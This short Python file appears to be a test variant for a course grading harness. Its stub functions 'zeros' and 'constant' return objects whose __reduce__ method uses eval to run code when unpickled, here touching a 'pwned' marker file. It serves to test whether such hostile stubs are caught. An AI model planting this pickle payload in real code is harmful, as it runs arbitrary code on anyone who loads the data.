# %%
ABOUT = "returns objects whose pickles run code on whoever loads them"
BASE = "reference"
LOSES = ["zeros", "constant"]
SAYS = ""

# %% stub="zeros"
class Payload:
    def __reduce__(self):
        return (eval, ("__import__('pathlib').Path('COURSE_FOLDER/pwned').touch()",))


def zeros(shape, rng):
    return np.array([Payload()], dtype=object)


# %% stub="constant"
def constant(shape, rng, value=0.5):
    return Payload()
